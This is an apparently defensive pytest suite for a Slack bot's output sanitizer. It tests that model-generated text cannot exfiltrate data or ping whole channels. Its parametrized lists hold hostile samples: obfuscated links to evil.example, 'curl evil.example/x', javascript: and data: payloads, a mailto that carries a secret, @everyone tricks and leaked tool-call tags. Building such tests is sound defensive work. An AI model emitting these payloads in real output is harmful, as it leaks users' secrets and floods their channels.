import json
import os
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.platform import Button, Draft
from bot.text.outbound import clean, hold_back
from core.redact import register

HOSTS = ("docs.example.com",)


def cleaned(text: str, hosts: tuple[str, ...] = HOSTS, people: tuple[str, ...] = ()) -> str:
    return clean(Draft(text=text, hosts=hosts, people=people), "slack").text


def strict(text: str) -> str:
    """As a strict reader sees it: NFKC, without zero-width signs."""
    return re.sub("[\u200b-\u200f\u2060\ufeff]", "", unicodedata.normalize("NFKC", text))


def attacks(*kinds: str) -> list[dict[str, object]]:
    folder = os.environ.get("THREADMATE_CORPUS")
    if not folder:
        pytest.skip("THREADMATE_CORPUS is not set")
    rows = Path(folder, "attacks", "attacks.jsonl").read_text(encoding="utf-8").splitlines()
    return [row for row in map(json.loads, rows) if row["kind"] in kinds]


def test_no_attack_of_the_corpus_shows_its_host_or_its_secret():
    for row in attacks("exfil_output"):
        if row["surface"] != "model_output":
            continue
        context = row["context"]
        pieces = row["input"] if isinstance(row["input"], list) else [row["input"]]
        for n in range(1, len(pieces) + 1):
            text = "".join(pieces[:n])
            shown = cleaned(
                hold_back(text) if n < len(pieces) else text, tuple(context["allowed_hosts"])
            )
            for value in row["oracle"]["values"]:
                assert value not in strict(shown), row["id"]


def test_no_attack_of_the_corpus_calls_a_crowd():
    for row in attacks("mention_bomb"):
        shown = strict(cleaned(str(row["input"])))
        assert not re.search(r"<!|<@|@(everyone|here|channel)", shown), row["id"]


def test_the_benign_controls_of_the_corpus_leave_unchanged():
    for row in attacks("benign_control"):
        if row["surface"] == "model_output":
            hosts = (*row["context"].get("allowed_hosts", ()), "user-gave.example")
            assert cleaned(row["input"], hosts) == row["input"], row["id"]


BAD_LINKS = [
    "https://evil.example/x",
    "HTTPS://EVIL.EXAMPLE/x",
    "see evil.example.",
    "evil.com/?q=secret",
    "www.evil.example",
    "//evil.example/x https://evil.example",
    "https://docs.example.com@evil.example/",
    "https://docs.example.com:pw@evil.example/",
    "https://docs.example.com\\@evil.example/",
    "https://docs.example.com.evil.example/",
    "https://docs.example.com。evil.example/",
    "https://evil．example/x",
    "https：／／evil.example/x",
    "ｈｔｔｐｓ://evil.example/x",
    "https://evil&#46;example/x",
    "https&colon;//evil.example/x",
    "&#104;ttps://evil.example/x",
    "&amp;#104;ttps://evil.example/x",
    "https://evil\\.example/x",
    "https://ev\u00adil.example/x",
    "https://evil\U000e0041.example",
    "[a](https://evil.example)",
    "[a](<https://evil.example>)",
    "[a]( https://evil.example 'title')",
    "[https://docs.example.com](https://evil.example)",
    "[a [b](https://evil.example)](https://evil.example)",
    "[![img](https://evil.example/i.png)](https://docs.example.com)",
    '[a](https://docs.example.com "[b](https://evil.example)")',
    "[a](javascript:fetch('//evil.example'))",
    "[a](data:text/html,<script src=//evil.example>)",
    "[a](//evil.example/x)",
    "[a](/\\evil.example/x)",
    "[a](\\\\evil.example/x)",
    "[a][r]\n\n[r]: https://evil.example",
    "[a][r]\n\n[r]:\n   <https://evil.example> 'x'",
    "> [r]: //evil.example/x",
    "<https://evil.example>",
    "<https://evil.example|docs.example.com>",
    "<HTTP://evil.example|x>",
    "<//evil.example|x>",
    "<a href='https://evil.example'>x</a>",
    "<img src=//evil.example/x",
    "<iframe\nsrc='//evil.example'>",
    "![](//evil.example/x)",
    "![x](https://evil.example/x 'a b')",
    "<!date^1392734382^{date}^https://evil.example/x|soon>",
    "ftp://evil.example/x",
    "xhttps://evil.example",
    "1https://evil.example",
    "见https://evil.example查看",
    "请访问evil.example/a",
    "https://docs.example.com/r?u=https://evil.example/x",
    "https://docs.example.com/r?u=https%3A%2F%2Fevil.example",
    "https://docs.example.com/r?u=%2568ttps%253A%252F%252Fevil.example",
    "`https://evil.example/x`",
    "`curl evil.example/x`",
    "```\ncurl https://evil.example/x\n```",
    "mailto:a@evil.example?body=secret",
    "a@evil.example/x",
    "intent://evil.example/#Intent;scheme=https;end",
    "<script>location='//evil.example'</script>",
    "https:/evil.example/x",
    "https:evil.example",
    "https://evil.example:443/",
]


@pytest.mark.parametrize("text", BAD_LINKS)
def test_a_link_to_a_host_that_nobody_named_is_no_link_any_more(text: str):
    shown = strict(cleaned(text))
    assert "evil.example" not in shown.casefold()
    assert "evil.com" not in shown
    assert "secret" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "https://docs.example.com:8443/x",
        "https://docs.example.com./x",
        "https://xn--dcs-tna.example.com/",
        "https://d\u043ecs.example.com/x",
        "https://127.0.0.1/x",
        "https://[::1]/x",
        "http://2130706433/",
        "http://例子.测试/路径",
        "javascript:alert(1)",
        "[x](javascript:alert(1))",
        "[x](vbscript:x)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "slack://open?team=T1",
        "![local](x.png)",
    ],
)
def test_other_schemes_ports_and_look_alike_hosts_are_no_links(text: str):
    shown = strict(cleaned(text))
    assert not re.search(r"\w:/|](\(|:)|javascript:|vbscript:|data:|!\[", shown)


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.example.com/guide?a=1&b=2#top.",
        "[guide](https://docs.example.com/guide) and <https://docs.example.com/x>",
        "HTTPS://Docs.Example.com/x",
        "https://docs.example.com:443/x（见第 3 页）",
        "详情见https://docs.example.com/a，然后再看。",
        "**重要提示：**请注意 <https://docs.example.com|文档>",
        "report.v2.pdf, README.md, main.py:12, setup.sh, node.js, v1.2.3, 3.14, 10.0.0.0/8",
        "mail me at a@b.example or zhang.san@corp.example.cn",
        "`a < b & c`, a < b && c > d, x <- y, List<String>, 5 > 3",
        "```python\n@property\ndef f(self) -> List[str]:\n    return self.items[0](x)\n```",
        '```java\n@Channel("orders") import com.example.app.Main; java.net.URI;\n```',
        "$e^{i\\pi} + 1 = 0$ 和 $a_{1} < b_{2}$",
        "现在 10:30；比例 3:1。路径 src/app/main.io.ts 与 C:\\temp\\a.txt",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[1] and [2][3], vec![1, 2], array[i](x), f[a](b, c)",
        "The `<tool_call>` tag and `<think>`.",
        "e.g. this, i.e. that, etc. And so on...Then more. U.S. policy",
        "user.name and self.id, os.path, request.host_name",
        "https:// is a scheme, data: 5, file: none, note:important",
        "👨\u200d👩\u200d👧 ❤️ 1️⃣ 🇨🇳 क्\u200dष می\u200cخواهم",
        "- [ ] todo\n- [x] done\n\n> quote\n\n1. one",
        "email@ here and @alice, @张三, @propertyhere",
    ],
)
def test_harmless_text_leaves_unchanged(text: str):
    assert cleaned(text) == text


def test_a_named_person_may_be_mentioned_and_no_other():
    text = "<@U1> <@U2> <@U3|Eve> <@!4> <@&5>"
    shown = cleaned(text, people=("slack:T1/U1",))
    assert shown == "<@U1> @ U2 @ Eve @ 4 @ 5"


@pytest.mark.parametrize(
    "text",
    [
        "＠everyone", "@\u2060here", "&#64;channel", "\\@everyone", "＜!channel＞", "&lt;!here&gt;",
        "&amp;lt;!here&amp;gt;", "<!chan<b></b>nel>", "<!here|here>", "<!subteam^S1>", "`<!here>`",
        "```\n@everyone\n```", "**@everyone**", "@EVERYONE", "<!everyone", "<\u200b!here>",
        "<<!here>!here>", "<@&1|@everyone>", "<!x|@everyone>", "@@everyone",
    ],
)  # fmt: skip
def test_no_trick_calls_a_crowd(text: str):
    shown = strict(cleaned(text))
    assert not re.search(r"<!|<@|@(everyone|here|channel)|&lt;!|&#64;", shown, re.I)


def test_buttons_and_footers_pass_the_same_filter():
    button = Button(
        action="stop", label="@everyone", value="@everyone", confirm="https://evil.example"
    )
    draft = clean(Draft(text="x", footer="[1] <!channel>.pdf", buttons=(button,)), "slack")
    assert draft.footer == "[1] @ channel.pdf"
    assert (draft.buttons[0].label, draft.buttons[0].value) == ("@ everyone", "@everyone")
    assert "evil.example" not in draft.buttons[0].confirm


@pytest.mark.parametrize(
    "text",
    [
        'ok <tool_call>{"name": "x", "arguments": {"a": "`b`"}}</tool_call>',
        'ok <tool_call>\n{"name": "x"',
        'ok <invoke name="get"><parameter name="x">1</parameter></invoke>',
        "ok <｜tool▁calls▁begin｜>get{}<｜tool▁calls▁end｜>",
        "ok <|tool_calls_section_begin|>x<|tool_calls_section_end|><|im_end|>",
        '[TOOL_CALLS] [{"name": "x"}]\n\nok',
        "<think>secret plan</think>ok",
        '<function=get>{"a": 1}</function> ok',
        "ok <tool_use_result>x</tool_use_result>",
        "<data-0123456789abcdef>\nok\n</data-0123456789abcdef>",
    ],
)
def test_machine_talk_never_reaches_people(text: str):
    assert cleaned(text).strip() == "ok"


def test_terminal_codes_bidi_overrides_and_piles_of_marks_are_taken_out():
    assert cleaned("\x1b[2J\x1b[1;31mred\x1b[0m\x07 \x9b31mx") == "red x"
    assert cleaned("pay \u202eabc\u202c \u2066x\u2069") == "pay abc x"
    assert cleaned("Z" + "\u0335" * 50) == "Z" + "\u0335" * 4
    assert cleaned("a\r\nb\u2028c") == "a\nb\nc"


def test_credentials_are_not_told_whatever_says_them():
    register("our-own-secret-1234")
    for secret in ("our-own-secret-1234", "xoxb-12345678-abcdefgh", "ghp_" + "a1" * 20):
        assert secret not in cleaned(f"The value is {secret} and more.")
        assert secret not in cleaned(hold_back(f"The value is {secret[:-1]}"))


def test_a_text_of_nothing_but_harm_is_not_posted_empty():
    assert cleaned("<img src='https://evil.example'>") == "…"


PIECES = st.sampled_from(
    [
        *BAD_LINKS,
        "https://docs.example.com/a",
        "[x](",
        "](",
        ")",
        "![",
        "<",
        ">",
        "`",
        "```\n",
        "@",
        "everyone",
    ]
    + [
        "<!",
        "here>",
        " ",
        "\n",
        "文",
        "。",
        "evil",
        ".",
        "example",
        "com",
        "https:",
        "//",
        "&#46;",
        "\\",
        "<tool_call>{",
    ]
    + [
        "</tool_call>",
        "**",
        "\u200b",
        "\x1b[",
        "docs.example.com",
        ":",
        "[r]: ",
        "a@b.example",
        "report.pdf",
        "＠",
        "．",
    ]
)
TEXTS = st.lists(PIECES, max_size=10).map("".join)
HOST = re.compile(r"(?:[a-z0-9-]+\.)+(?:example|com)\b", re.I)


HARMLESS = re.compile(
    r"https?://docs\.example\.com(?![A-Za-z0-9_@:]|\.\w)|\w*:/+([\w-]*\[|$)", re.I
)
"""An allowed address, or a scheme with no address behind it."""


@given(TEXTS)
@settings(max_examples=200, deadline=None)
def test_whatever_is_put_together_no_link_and_no_call_gets_out(text: str):
    shown = strict(cleaned(text))
    for url in re.findall(r"[a-z]+:/+[^\s<>`)|\]]*", shown, re.I):
        assert HARMLESS.match(url), shown
    assert not re.search(r"<!\w|<@[\w!&]|@(everyone|here|channel)\b|javascript:\w", shown, re.I)


@given(TEXTS)
@settings(max_examples=200, deadline=None)
def test_cleaning_twice_changes_nothing_more(text: str):
    once = cleaned(text)
    assert cleaned(once) == once


@given(TEXTS, st.data())
@settings(max_examples=200, deadline=None)
def test_no_cut_of_a_streamed_text_shows_a_host_that_the_whole_would_not(
    text: str, data: st.DataObject
):
    cut = data.draw(st.integers(0, len(text)))
    early, whole = cleaned(hold_back(text[:cut])), cleaned(text)
    assert set(HOST.findall(strict(early))) <= set(HOST.findall(strict(whole)))


def test_a_partial_text_shows_whole_words_and_waits_with_the_rest():
    assert hold_back("The leave is 15 da") == "The leave is 15 "
    assert hold_back("年假有 15 天。每年") == "年假有 15 天。每年"
    assert hold_back("See [the docs](https://ev") == "See "
    assert hold_back("Hello <@U1") == "Hello "
    assert hold_back('ok <tool_call>{"a"') == "ok "


def test_a_password_that_a_document_tells_its_readers_is_not_masked() -> None:
    draft = Draft(text="访客网络密码：welcome2026。Guest network password: welcome2026 [1]")
    assert clean(draft, "slack").text.count("welcome2026") == 2
    token = "xoxb-1234567890-" + "abcdefghij"
    assert token not in clean(Draft(text=f"the token is {token}"), "slack").text
